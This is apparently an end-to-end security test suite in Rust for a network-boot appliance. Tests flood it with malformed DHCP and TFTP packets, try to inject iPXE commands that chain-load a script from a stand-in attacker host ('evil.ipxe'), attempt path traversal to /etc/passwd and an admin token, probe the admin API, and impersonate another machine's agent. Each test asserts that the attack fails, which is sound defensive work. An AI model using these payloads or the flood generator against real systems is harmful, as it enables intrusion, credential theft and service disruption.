//! A hostile provisioning segment: a host on it floods rackboot with malformed DHCP and TFTP
//! while real clients (QEMU firmware, tftp-hpa, atftp, curl, a DHCP client made here) boot and
//! fetch; boot-script parameters try to inject iPXE commands; TFTP and HTTP names try to leave
//! their roots; the admin API is probed from the segment; an agent claims another machine.
//! Network namespaces, real peers; needs root. One test at a time (they load both cores).
#![allow(clippy::unwrap_used)]

use rackboot_e2e::admin::Admin;
use rackboot_e2e::dhcp_client::{client_socket, exchange, packet, ClientSpec};
use rackboot_e2e::qemu::{self, Firmware};
use rackboot_e2e::{in_netns, metric_sum, workspace_bin, Host, Lab};
use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

static SERIAL: Mutex<()> = Mutex::new(());

const APPL: Ipv4Addr = Ipv4Addr::new(10, 99, 0, 2);
const CLI: Ipv4Addr = Ipv4Addr::new(10, 99, 0, 50);
const EVIL: Ipv4Addr = Ipv4Addr::new(10, 99, 0, 66);
const BOOT: &str = "10.99.0.2:50042";

fn serial() -> std::sync::MutexGuard<'static, ()> {
    SERIAL.lock().unwrap_or_else(|p| p.into_inner())
}

/// dnsmasq (site DHCP) at .1, rackboot at .2 (ProxyDHCP, TFTP 69, boot HTTP 50042, admin on its
/// loopback), a client at .50 and the attacker at .66.
fn segment(tag: &str) -> (Lab, Host, Host, Host) {
    let (mut lab, appl) = qemu::boot_segment(
        tag,
        "[boot]\nagent_cmdline = \"console=ttyS0 panic=-1\"\n",
        &[
            ("tftp/undionly.kpxe", "tftp/undionly.kpxe"),
            ("tftp/ipxe.efi", "tftp/ipxe.efi"),
            ("tftp/snponly.efi", "tftp/snponly.efi"),
            ("vmlinuz", "agent/vmlinuz"),
            ("marker-initrd.gz", "agent/initramfs.cpio.gz"),
        ],
    );
    let cli = lab.host("cli", CLI, None);
    let evil = lab.host("evil", EVIL, None);
    (lab, appl, cli, evil)
}

fn admin_token(lab: &Lab) -> String {
    std::fs::read_to_string(lab.dir.join("rackboot-data/admin-token"))
        .unwrap()
        .trim()
        .to_string()
}

/// `curl` from `ns`: (HTTP status, body); status 0 when no HTTP answer came.
fn curl(lab: &Lab, ns: &str, args: &[&str]) -> (u16, String) {
    let mut all = vec![
        "curl",
        "-s",
        "-g",
        "--max-time",
        "20",
        "-w",
        "\n%{http_code}",
    ];
    all.extend_from_slice(args);
    let (_, out) = lab.exec(ns, &all);
    let (body, code) = out.rsplit_once('\n').unwrap_or(("", out.as_str()));
    (code.trim().parse().unwrap_or(0), body.to_string())
}

// ---------------------------------------------------------------------------------------------
// The flood

/// xorshift64*: deterministic junk, no dependency.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
    fn bytes(&mut self, n: usize) -> Vec<u8> {
        (0..n).map(|_| self.next() as u8).collect()
    }
    /// Up to `max - 1` random bytes.
    fn junk(&mut self, max: usize) -> Vec<u8> {
        let n = self.below(max);
        self.bytes(n)
    }
}

/// A malformed (or merely hostile) DHCP payload derived from a real PXE DISCOVER.
fn bad_dhcp(r: &mut Rng, real: &[u8]) -> Vec<u8> {
    match r.below(7) {
        6 => {
            // a well-formed DISCOVER from a made-up machine (discovery flood)
            let mut p = real.to_vec();
            let mac = r.bytes(6);
            p[28..34].copy_from_slice(&mac);
            p
        }
        0 => r.junk(700),
        1 => real[..r.below(240)].to_vec(),
        2 => {
            let mut p = real.to_vec();
            p[236] ^= 0xff; // magic cookie
            p
        }
        3 => {
            // an option whose length runs past the end
            let mut p = real[..240].to_vec();
            p.extend_from_slice(&[60, 200, b'P', b'X', b'E']);
            p
        }
        4 => {
            let mut p = real.to_vec();
            for _ in 0..1 + r.below(8) {
                let i = r.below(p.len());
                p[i] ^= r.next() as u8 | 1;
            }
            p
        }
        _ => {
            let mut p = real[..240].to_vec();
            let n = r.below(400);
            p.extend(r.bytes(n));
            p
        }
    }
}

/// A malformed or refused TFTP datagram for the listen port.
fn bad_tftp(r: &mut Rng) -> Vec<u8> {
    let rrq = |name: &[u8], mode: &[u8], tail: &[u8]| {
        let mut p = vec![0, 1];
        p.extend_from_slice(name);
        p.push(0);
        p.extend_from_slice(mode);
        p.push(0);
        p.extend_from_slice(tail);
        p
    };
    match r.below(8) {
        0 => r.junk(600),
        1 => b"\x00\x01undionly.kpxe".to_vec(), // no terminating NULs
        2 => rrq(b"../../rackboot-data/admin-token", b"octet", b""),
        3 => {
            let mut p = rrq(b"x", b"octet", b"");
            p[1] = 2; // WRQ
            p
        }
        4 => {
            let mut p = vec![0, 6 + r.below(250) as u8];
            p.extend(r.junk(64));
            p
        }
        5 => rrq(
            b"no-such-file",
            b"octet",
            b"blksize\x0099999999999999999999\x00windowsize\x000\x00tsize\x00-1\x00",
        ),
        6 => vec![0, 4, 0, 1], // an ACK on the listen port
        _ => rrq(b"undionly.kpxe", b"mail", b""),
    }
}

/// Datagrams per second of the flood. A real attacker has its own CPU; here the flooder, rackboot,
/// dnsmasq and a TCG guest share two cores, so the flood is paced (unpaced it starves the guest's
/// emulation, not rackboot's protocol handling). `RACKBOOT_E2E_FLOOD_PPS` overrides it.
const FLOOD_PPS: u64 = 10_000;

fn flood_pps() -> u64 {
    std::env::var("RACKBOOT_E2E_FLOOD_PPS")
        .ok()
        .and_then(|v| v.parse().ok())
        .filter(|v| *v > 0)
        .unwrap_or(FLOOD_PPS)
}

struct Flood {
    stop: Arc<AtomicBool>,
    dhcp_sent: Arc<AtomicU64>,
    tftp_sent: Arc<AtomicU64>,
    thread: std::thread::JoinHandle<()>,
}

impl Flood {
    /// Send malformed DHCP (to 67 and 4011, one in 16 broadcast) and TFTP (to 69) from `evil`,
    /// alternating, at `pps` datagrams per second, until stopped.
    fn start(evil: &Host, pps: u64) -> Flood {
        let stop = Arc::new(AtomicBool::new(false));
        let dhcp_sent = Arc::new(AtomicU64::new(0));
        let tftp_sent = Arc::new(AtomicU64::new(0));
        let real = packet(&spec([0x52, 0x54, 0, 0x66, 0, 1], 0x6666_0001), 1, None);
        let (ns, stop2, dsent, tsent) = (
            evil.ns.clone(),
            stop.clone(),
            dhcp_sent.clone(),
            tftp_sent.clone(),
        );
        let thread = std::thread::spawn(move || {
            in_netns(&ns, move || {
                let dhcp = client_socket(68);
                let tftp = UdpSocket::bind("0.0.0.0:0").unwrap();
                let mut r = Rng(0x9e37_79b9_7f4a_7c15);
                let dests = [SocketAddr::from((APPL, 67)), SocketAddr::from((APPL, 4011))];
                let bcast = SocketAddr::from(([255, 255, 255, 255], 67));
                let (mut d, mut t) = (0u64, 0u64);
                let t0 = Instant::now();
                while !stop2.load(Ordering::Relaxed) {
                    let p = bad_dhcp(&mut r, &real);
                    let to = if d % 16 == 15 {
                        bcast
                    } else {
                        dests[(d % 2) as usize]
                    };
                    if dhcp.send_to(&p, to).is_ok() {
                        d += 1;
                    }
                    if tftp.send_to(&bad_tftp(&mut r), (APPL, 69)).is_ok() {
                        t += 1;
                    }
                    // Pace: stay on the schedule of `pps` datagrams per second.
                    let due = Duration::from_micros((d + t) * 1_000_000 / pps);
                    if let Some(ahead) = due.checked_sub(t0.elapsed()) {
                        std::thread::sleep(ahead);
                    }
                }
                dsent.store(d, Ordering::Relaxed);
                tsent.store(t, Ordering::Relaxed);
            })
        });
        Flood {
            stop,
            dhcp_sent,
            tftp_sent,
            thread,
        }
    }

    /// Stop; (DHCP, TFTP) datagrams sent.
    fn stop(self) -> (u64, u64) {
        self.stop.store(true, Ordering::Relaxed);
        self.thread.join().unwrap();
        (
            self.dhcp_sent.load(Ordering::Relaxed),
            self.tftp_sent.load(Ordering::Relaxed),
        )
    }
}

fn spec(mac: [u8; 6], xid: u32) -> ClientSpec {
    ClientSpec {
        mac,
        xid,
        arch: 7,
        vendor_class: "PXEClient:Arch:00007:UNDI:003000".into(),
        ipxe: false,
        uuid: Some([0x42; 16]),
        giaddr: Ipv4Addr::UNSPECIFIED,
    }
}

#[test]
fn malformed_dhcp_and_tftp_floods_do_not_stop_real_clients() {
    let _one = serial();
    let (mut lab, appl, cli, evil) = segment("hostile-flood");
    let assets = lab.dir.join("assets");
    let before = lab.admin_get(&appl, "/metrics");
    let started = Instant::now();
    let flood = Flood::start(&evil, flood_pps());
    std::thread::sleep(Duration::from_secs(2));

    // A real firmware boot through it all: SeaBIOS + iPXE ROM → ProxyDHCP → init.ipxe →
    // boot.ipxe → kernel + initramfs over HTTP, printing its command line.
    let uuid = "11111111-2222-3333-4444-5555555555f1";
    let vm = qemu::start(
        &mut lab,
        "vm1",
        Firmware::BiosIpxeRom,
        "52:54:00:99:00:f1",
        uuid,
    );

    // Our DHCP client (independent parser): a UEFI PXE DISCOVER gets rackboot's offer.
    let offered = in_netns(&cli.ns, || {
        let s = client_socket(68);
        let c = spec([0x52, 0x54, 0, 0x99, 0, 0xf2], 0x5150_0001);
        (0..5).any(|_| {
            exchange(
                &s,
                &packet(&c, 1, None),
                SocketAddr::from(([255, 255, 255, 255], 67)),
                c.xid,
                Duration::from_secs(2),
            )
            .iter()
            .any(|r| r.server_id() == Some(APPL) && r.msg_type() == Some(2))
        })
    });
    assert!(offered, "no ProxyDHCP offer during the flood");

    // Real TFTP clients and curl fetch whole files, byte for byte.
    let want_kpxe = std::fs::read(assets.join("tftp/undionly.kpxe")).unwrap();
    let want_efi = std::fs::read(assets.join("tftp/ipxe.efi")).unwrap();
    let out = |n: &str| lab.dir.join(n).display().to_string();
    let fetches: Vec<(&str, Vec<String>, String, &Vec<u8>)> = vec![
        (
            "tftp-hpa",
            [
                "timeout",
                "120",
                "tftp",
                "-m",
                "binary",
                "10.99.0.2",
                "-c",
                "get",
                "undionly.kpxe",
            ]
            .iter()
            .map(|s| s.to_string())
            .chain([out("hpa.kpxe")])
            .collect(),
            out("hpa.kpxe"),
            &want_kpxe,
        ),
        (
            "atftp",
            vec![
                "timeout".into(),
                "120".into(),
                "atftp".into(),
                "--option".into(),
                "blksize 1468".into(),
                "--option".into(),
                "windowsize 8".into(),
                "-g".into(),
                "-r".into(),
                "ipxe.efi".into(),
                "-l".into(),
                out("atftp.efi"),
                "10.99.0.2".into(),
            ],
            out("atftp.efi"),
            &want_efi,
        ),
        (
            "curl tftp",
            vec![
                "curl".into(),
                "-s".into(),
                "--max-time".into(),
                "120".into(),
                "--tftp-blksize".into(),
                "1468".into(),
                "-o".into(),
                out("curl.efi"),
                "tftp://10.99.0.2/ipxe.efi".into(),
            ],
            out("curl.efi"),
            &want_efi,
        ),
        (
            "curl http",
            vec![
                "curl".into(),
                "-sf".into(),
                "--max-time".into(),
                "60".into(),
                "-o".into(),
                out("http.kpxe"),
                format!("http://{BOOT}/tftp/undionly.kpxe"),
            ],
            out("http.kpxe"),
            &want_kpxe,
        ),
    ];
    for (what, args, file, want) in &fetches {
        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
        let (ok, log) = lab.exec(&cli.ns, &refs);
        let got = std::fs::read(file).unwrap_or_default();
        assert!(
            ok && &got == *want,
            "{what} during the flood: ok={ok}, {} of {} bytes: {log}",
            got.len(),
            want.len()
        );
    }

    let console = vm.wait_serial(&mut lab, "RACKBOOT-MARKER-END", Duration::from_secs(300));
    let cmdline = console
        .lines()
        .find(|l| l.contains("RACKBOOT-CMDLINE:"))
        .unwrap();
    assert!(
        cmdline.contains(&format!("rackboot.machine={uuid}")),
        "{cmdline}"
    );
    assert!(
        cmdline.contains("rackboot.token="),
        "per-boot token: {cmdline}"
    );

    let (dhcp_sent, tftp_sent) = flood.stop();
    let secs = started.elapsed().as_secs_f64();
    eprintln!(
        "flood: {dhcp_sent} DHCP + {tftp_sent} TFTP datagrams in {secs:.0} s ({:.0} per second)",
        (dhcp_sent + tftp_sent) as f64 / secs
    );
    assert!(
        lab.alive("rackboot"),
        "rackboot died: {}",
        lab.log("rackboot")
    );
    let after = lab.admin_get(&appl, "/metrics");
    let rose = |prefix: &str| metric_sum(&after, prefix) - metric_sum(&before, prefix);
    let dhcp_malformed = rose("rackboot_dhcp_packets_total{kind=\"malformed\"");
    let tftp_bad = rose("rackboot_tftp_transfers_total{kind=\"dropped\"")
        + rose("rackboot_tftp_transfers_total{kind=\"refused\"");
    eprintln!("counted: {dhcp_malformed} malformed DHCP, {tftp_bad} dropped/refused TFTP");
    assert!(
        dhcp_malformed >= 1000.0 && tftp_bad >= 1000.0,
        "malformed counters barely rose (DHCP {dhcp_malformed}, TFTP {tftp_bad}) for {dhcp_sent}/{tftp_sent} sent"
    );
    // Made-up machines were discovered at most at the discovery limit (2,048 at once, then 20 a
    // second), and the limit was logged, not every dropped sighting.
    let (status, list) = curl(
        &lab,
        &appl.ns,
        &[
            "-H",
            &format!("Authorization: Bearer {}", admin_token(&lab)),
            "http://127.0.0.1:8080/api/v1/machines",
        ],
    );
    assert_eq!(status, 200);
    let machines = serde_json::from_str::<serde_json::Value>(&list).unwrap()["machines"]
        .as_array()
        .map_or_else(
            || {
                serde_json::from_str::<Vec<serde_json::Value>>(&list)
                    .unwrap()
                    .len()
            },
            Vec::len,
        );
    let bound = 2048.0 + 20.0 * started.elapsed().as_secs_f64() + 10.0;
    eprintln!("machines after the flood: {machines} (bound {bound:.0})");
    assert!((machines as f64) <= bound, "{machines} machines discovered");
    let log = lab.log("rackboot");
    let limit_lines = log.matches("new machines not recorded").count() as u64;
    assert!(
        limit_lines <= 2 + started.elapsed().as_secs() / 60,
        "{limit_lines} discovery-limit log lines"
    );
    eprintln!(
        "sightings dropped (recorder queue full): {}",
        rose("rackboot_dhcp_packets_total{kind=\"sighting_dropped\"")
    );
    // rackboot still answers after the flood.
    assert_eq!(
        curl(&lab, &cli.ns, &[&format!("http://{BOOT}/ipxe/init.ipxe")]).0,
        200
    );
}

// ---------------------------------------------------------------------------------------------
// Boot-script injection

/// The script without its per-boot token (which differs on every request).
fn without_token(script: &str) -> String {
    script
        .split(' ')
        .filter(|w| !w.starts_with("rackboot.token="))
        .collect::<Vec<_>>()
        .join(" ")
}

#[test]
fn boot_script_parameters_cannot_inject_ipxe_commands() {
    let _one = serial();
    let (lab, _appl, cli, _evil) = segment("hostile-inject");
    let uuid = "11111111-2222-3333-4444-5555555555e1";
    let mac = "52-54-00-99-00-e1";
    let base = |u: &str, m: &str, a: &str| {
        format!("http://{BOOT}/ipxe/boot.ipxe?uuid={u}&mac={m}&arch={a}")
    };
    let (status, reference) = curl(&lab, &cli.ns, &[&base(uuid, mac, "x86_64")]);
    assert_eq!(status, 200, "{reference}");
    assert!(reference.starts_with("#!ipxe\n") && reference.contains("rackboot.token="));
    let reference = without_token(&reference);

    let payloads = [
        "%0achain%20http://10.99.0.66/evil.ipxe",
        "%0d%0a%23!ipxe%0ashell",
        "%0a%23!ipxe",
        "x%3bchain%20http://10.99.0.66/evil.ipxe",
        "x%20||%20chain%20http://10.99.0.66/evil.ipxe",
        "%24%7bnet0/ip%7d",
        "${uuid}",
        "%00chain",
        "%e2%80%a8chain%20http://10.99.0.66/evil.ipxe",
        "chain",
        "+chain+http://10.99.0.66/evil.ipxe",
        "%",
    ];
    let mut tried = 0;
    for p in payloads {
        for (u, m, a) in [
            (p.to_string(), mac.to_string(), "x86_64".to_string()),
            (format!("{uuid}{p}"), mac.to_string(), "x86_64".to_string()),
            (uuid.to_string(), p.to_string(), "x86_64".to_string()),
            (uuid.to_string(), format!("{mac}{p}"), "x86_64".to_string()),
            (uuid.to_string(), mac.to_string(), p.to_string()),
            (uuid.to_string(), mac.to_string(), format!("x86_64{p}")),
        ] {
            let (status, body) = curl(&lab, &cli.ns, &[&base(&u, &m, &a)]);
            tried += 1;
            match status {
                400 => assert!(!body.starts_with("#!ipxe"), "{u} {m} {a}: {body}"),
                200 => assert_eq!(without_token(&body), reference, "{u} {m} {a}"),
                other => panic!("{u} {m} {a}: HTTP {other}: {body}"),
            }
            assert!(!body.contains("evil") && !body.contains("shell"), "{body}");
        }
        // Unknown parameters are ignored entirely: the script is the reference one.
        let (status, body) = curl(
            &lab,
            &cli.ns,
            &[&format!("{}&next={p}&{p}=1", base(uuid, mac, "x86_64"))],
        );
        assert_eq!(status, 200, "{p}: {body}");
        assert_eq!(without_token(&body), reference, "extra parameter {p}");
    }
    // A raw line break in the request target never reaches the handler.
    let raw = in_netns(&cli.ns, move || {
        use std::io::{Read, Write};
        let mut s = std::net::TcpStream::connect(BOOT).unwrap();
        s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        s.write_all(
            format!(
                "GET /ipxe/boot.ipxe?uuid={uuid}\nchain http://10.99.0.66/evil.ipxe HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
            )
            .as_bytes(),
        )
        .unwrap();
        let mut out = String::new();
        let _ = s.read_to_string(&mut out);
        out
    });
    assert!(!raw.contains("#!ipxe") && !raw.contains("evil"), "{raw}");
    eprintln!("{tried} hostile boot queries: every one refused or inert");
}

// ---------------------------------------------------------------------------------------------
// Path traversal

#[test]
fn tftp_and_http_path_traversal_is_refused() {
    let _one = serial();
    let (lab, _appl, cli, _evil) = segment("hostile-paths");
    let secret = format!("OUTSIDE-THE-ROOT-{}", std::process::id());
    std::fs::write(lab.dir.join("outside.txt"), &secret).unwrap();
    let token = admin_token(&lab);
    let assets = lab.dir.join("assets");
    for link in ["tftp/link-out", "agent/link-out"] {
        std::os::unix::fs::symlink(lab.dir.join("outside.txt"), assets.join(link)).unwrap();
    }
    std::os::unix::fs::symlink("/etc", assets.join("tftp/etc-link")).unwrap();
    let leaked = |s: &str| s.contains(&secret) || s.contains(&token) || s.contains("root:x:0:0");

    // Positive control: the same clients do fetch a file inside the root.
    let (status, _) = curl(
        &lab,
        &cli.ns,
        &[&format!("http://{BOOT}/tftp/undionly.kpxe")],
    );
    assert_eq!(status, 200);

    let names = [
        "../outside.txt",
        "../../outside.txt",
        "/../../outside.txt",
        "..\\..\\outside.txt",
        "tftp/../../../outside.txt",
        "../../rackboot-data/admin-token",
        "link-out",
        "etc-link/passwd",
        "/etc/passwd",
        "%2e%2e/%2e%2e/outside.txt",
    ];
    for (i, name) in names.iter().enumerate() {
        // tftp-hpa and atftp send the name as given.
        let out = lab.dir.join(format!("trav-{i}"));
        let o = out.display().to_string();
        let (_, log) = lab.exec(
            &cli.ns,
            &[
                "timeout",
                "30",
                "tftp",
                "-m",
                "binary",
                "10.99.0.2",
                "-c",
                "get",
                name,
                &o,
            ],
        );
        let got = String::from_utf8_lossy(&std::fs::read(&out).unwrap_or_default()).into_owned();
        assert!(!leaked(&got), "tftp-hpa got {name}: {got}");
        assert!(
            log.contains("Error code"),
            "tftp-hpa {name}: expected a TFTP error: {log}"
        );
        let (_, log) = lab.exec(
            &cli.ns,
            &[
                "timeout",
                "30",
                "atftp",
                "-g",
                "-r",
                name,
                "-l",
                &o,
                "10.99.0.2",
            ],
        );
        let got = String::from_utf8_lossy(&std::fs::read(&out).unwrap_or_default()).into_owned();
        assert!(!leaked(&got), "atftp got {name}: {got} {log}");
    }

    let paths = [
        "/tftp/../../outside.txt",
        "/tftp/%2e%2e/%2e%2e/outside.txt",
        "/tftp/..%2f..%2foutside.txt",
        "/tftp/..%5c..%5coutside.txt",
        "/tftp/%2e%2e%2f%2e%2e%2frackboot-data%2fadmin-token",
        "/tftp//etc/passwd",
        "/tftp/%2fetc%2fpasswd",
        "/tftp/link-out",
        "/tftp/etc-link/passwd",
        "/assets/../outside.txt",
        "/assets/%2e%2e/outside.txt",
        "/assets/..%2foutside.txt",
        "/assets/..%2frackboot-data/admin-token",
        "/assets/agent/link-out",
        "/assets/tftp/link-out",
        "/assets/%2fetc%2fpasswd",
        "/cache/..%2f..%2foutside.txt",
        "/ipxe/../../outside.txt",
    ];
    for p in paths {
        for method in ["-G", "-I"] {
            let (status, body) = curl(
                &lab,
                &cli.ns,
                &["--path-as-is", method, &format!("http://{BOOT}{p}")],
            );
            assert!(
                status != 200 && status != 206 && !leaked(&body),
                "{method} {p}: HTTP {status}: {body}"
            );
        }
    }
}

// ---------------------------------------------------------------------------------------------
// The admin API from the segment

#[test]
fn admin_api_is_not_on_the_segment_unless_configured_and_then_token_only() {
    let _one = serial();
    let (mut lab, appl, cli, _evil) = segment("hostile-admin");
    // Default: admin on the appliance's loopback only. Nothing on the segment answers it, and
    // the boot HTTP port serves none of its routes.
    for url in [
        "http://10.99.0.2:8080/healthz",
        "http://10.99.0.2:8080/api/v1/machines",
    ] {
        let (status, body) = curl(&lab, &cli.ns, &[url]);
        assert_eq!(status, 0, "{url} answered from the segment: {body}");
    }
    for path in [
        "/api/v1/machines",
        "/metrics",
        "/",
        "/login",
        "/api/v1/events",
    ] {
        let (status, body) = curl(&lab, &cli.ns, &[&format!("http://{BOOT}{path}")]);
        assert_eq!(status, 404, "boot HTTP {path}: {body}");
    }

    // Configured on the segment's address (a second instance, its own data dir): only /healthz
    // without the token.
    let data = lab.dir.join("exposed-data");
    let bin = workspace_bin("rackboot").display().to_string();
    let args = [
        bin.as_str(),
        "serve",
        "--data-dir",
        &data.display().to_string(),
        "--assets-dir",
        &lab.dir.join("assets").display().to_string(),
        "--admin-listen",
        "10.99.0.2:8081",
        "--boot-http-listen",
        "10.99.0.2:50043",
        "--tftp-listen",
        "off",
        "--dhcp-mode",
        "off",
    ]
    .map(str::to_string);
    let refs: Vec<&str> = args.iter().map(String::as_str).collect();
    let ns = appl.ns.clone();
    lab.spawn("exposed", &ns, &refs);
    lab.wait_for("the exposed admin port", Duration::from_secs(30), |l| {
        curl(l, &cli.ns, &["http://10.99.0.2:8081/healthz"]).0 == 200
    });
    let token = std::fs::read_to_string(data.join("admin-token"))
        .unwrap()
        .trim()
        .to_string();
    let admin = "http://10.99.0.2:8081";
    let create = r#"{"name":"x","macs":["52:54:00:99:00:aa"]}"#;
    for (what, extra) in [
        ("no token", vec![]),
        ("wrong token", vec!["-H", "Authorization: Bearer 0000"]),
        (
            "token in a cookie",
            vec!["-H", "Cookie: rackboot_session=0000"],
        ),
        ("basic auth", vec!["-u", "admin:admin"]),
    ] {
        for (method, path, body) in [
            ("GET", "/api/v1/machines", ""),
            ("GET", "/api/v1/events", ""),
            ("GET", "/metrics", ""),
            ("GET", "/api/v1/profiles", ""),
            ("POST", "/api/v1/machines", create),
            ("DELETE", "/api/v1/machines/x", ""),
        ] {
            let mut a: Vec<&str> = vec!["-X", method];
            a.extend(&extra);
            if !body.is_empty() {
                a.extend(["-H", "Content-Type: application/json", "-d", body]);
            }
            let url = format!("{admin}{path}");
            a.push(&url);
            let (status, reply) = curl(&lab, &cli.ns, &a);
            assert_eq!(status, 401, "{what}: {method} {path}: {reply}");
            assert!(!reply.contains("52:54:00"), "{reply}");
        }
        // The web page sends a browser to the login form, showing nothing.
        let mut a: Vec<&str> = extra.clone();
        a.push("http://10.99.0.2:8081/");
        let (status, page) = curl(&lab, &cli.ns, &a);
        assert!(
            (300..400).contains(&status) || status == 401,
            "{what}: / gave {status}"
        );
        assert!(!page.contains("52:54:00"), "{page}");
    }
    let bearer = format!("Authorization: Bearer {token}");
    let (status, reply) = curl(
        &lab,
        &cli.ns,
        &[
            "-X",
            "POST",
            "-H",
            &bearer,
            "-H",
            "Content-Type: application/json",
            "-d",
            create,
            &format!("{admin}/api/v1/machines"),
        ],
    );
    assert_eq!(status, 201, "with the token: {reply}");
    let (status, list) = curl(
        &lab,
        &cli.ns,
        &["-H", &bearer, &format!("{admin}/api/v1/machines")],
    );
    assert_eq!(status, 200);
    assert!(list.contains("52:54:00:99:00:aa"), "{list}");
}

// ---------------------------------------------------------------------------------------------
// Agents claiming other machines

#[test]
fn an_agent_on_the_segment_cannot_claim_another_machine() {
    let _one = serial();
    let (mut lab, appl, _cli, evil) = segment("hostile-agent");
    let token = admin_token(&lab);
    let admin = |lab: &Lab, method: &str, path: &str, body: &str| {
        let url = format!("http://127.0.0.1:8080{path}");
        let bearer = format!("Authorization: Bearer {token}");
        let mut a = vec!["-X", method, "-H", &bearer];
        if !body.is_empty() {
            a.extend(["-H", "Content-Type: application/json", "-d", body]);
        }
        a.push(&url);
        curl(lab, &appl.ns, &a)
    };
    let victim_uuid = "11111111-2222-3333-4444-5555555555d1";
    let victim_mac = "52:54:00:99:00:d1";
    let (status, body) = admin(
        &lab,
        "POST",
        "/api/v1/machines",
        &format!(r#"{{"name":"victim","macs":["{victim_mac}"],"uuid":"{victim_uuid}"}}"#),
    );
    assert_eq!(status, 201, "{body}");
    // The victim boots the agent (its boot script carries its token).
    let victim_args = in_netns(&evil.ns, move || {
        Admin::new(BOOT.parse().unwrap(), "")
            .agent_kernel_args(victim_uuid, victim_mac)
            .unwrap()
    });
    let snapshot = |lab: &Lab| {
        let m: serde_json::Value =
            serde_json::from_str(&admin(lab, "GET", "/api/v1/machines/victim", "").1).unwrap();
        let events = admin(
            lab,
            "GET",
            &format!("/api/v1/events?machine={victim_uuid}"),
            "",
        )
        .1;
        assert!(events.contains("created"), "{events}");
        (m["generation"].clone(), m["hardware"].clone(), events)
    };
    lab.wait_for("the victim's boot recorded", Duration::from_secs(20), |l| {
        admin(
            l,
            "GET",
            &format!("/api/v1/events?machine={victim_uuid}"),
            "",
        )
        .1
        .contains("boot.ipxe served: agent")
    });
    let before = snapshot(&lab);

    // The attacker's own machine booted the agent too: it has a genuine token, for itself.
    let evil_args = in_netns(&evil.ns, || {
        Admin::new(BOOT.parse().unwrap(), "")
            .agent_kernel_args("11111111-2222-3333-4444-5555555555ee", "52:54:00:99:00:ee")
            .unwrap()
    });
    let evil_token = evil_args
        .split_whitespace()
        .find(|w| w.starts_with("rackboot.token="))
        .unwrap()
        .to_string();
    let agent = workspace_bin("rackboot-agent").display().to_string();
    for (i, cmdline) in [
        // no token at all
        format!("rackboot.appliance={BOOT} rackboot.machine=victim"),
        // a made-up token
        format!("rackboot.appliance={BOOT} rackboot.machine=victim rackboot.token=00112233445566778899aabbccddeeff"),
        // its own genuine token, claiming the victim by id
        format!("rackboot.appliance={BOOT} rackboot.machine=victim {evil_token}"),
    ]
    .iter()
    .enumerate()
    {
        let f = lab.write(&format!("evil-cmdline-{i}"), cmdline);
        let (ok, log) = lab.exec(
            &evil.ns,
            &[
                "timeout",
                "60",
                &agent,
                "--cmdline",
                &f.display().to_string(),
                "--once",
            ],
        );
        assert!(!ok, "impostor agent {i} was accepted: {log}");
        assert!(
            log.to_lowercase().contains("permission") || log.contains("PermissionDenied"),
            "impostor agent {i}: {log}"
        );
    }
    assert_eq!(
        snapshot(&lab),
        before,
        "the victim's record or events changed"
    );

    // Control: the agent of the victim's real boot (its command line) is accepted.
    let f = lab.write("victim-cmdline", &victim_args);
    let ns = evil.ns.clone();
    lab.spawn(
        "victim-agent",
        &ns,
        &[
            &agent,
            "--cmdline",
            &f.display().to_string(),
            "--heartbeat",
            "1",
        ],
    );
    lab.wait_for("the victim's own agent", Duration::from_secs(60), |l| {
        admin(
            l,
            "GET",
            &format!("/api/v1/events?machine={victim_uuid}"),
            "",
        )
        .1
        .contains("connected (boot MAC")
    });
}
